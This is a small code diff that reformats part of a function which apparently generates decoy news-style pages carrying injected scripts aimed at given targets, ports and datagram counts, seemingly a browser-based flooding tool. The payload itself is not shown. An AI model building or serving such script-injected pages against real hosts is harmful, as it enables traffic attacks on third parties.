@@ -98,7 +98,10 @@ def arm(portal: ScriptPortal, targets: list[str], port: int, datagrams: int) -> 
         page = SHELL.format(
             head=f'<script src="/rong.js"></script>{aimed(HEAD, aim, port, datagrams)}'
         )
-        body = f"{aimed(BODY, aim, port, datagrams)}<script>{script(aim, port, datagrams)}</script></body>"
+        body = (
+            f"{aimed(BODY, aim, port, datagrams)}<script>{script(aim, port, datagrams)}</script>"
+            "</body>"
+        )
         portal.answers[f"/tin-tuc/loi-ra-so-{n}.html"] = Answer(
             page.replace("</body>", body), headers=headers
         )
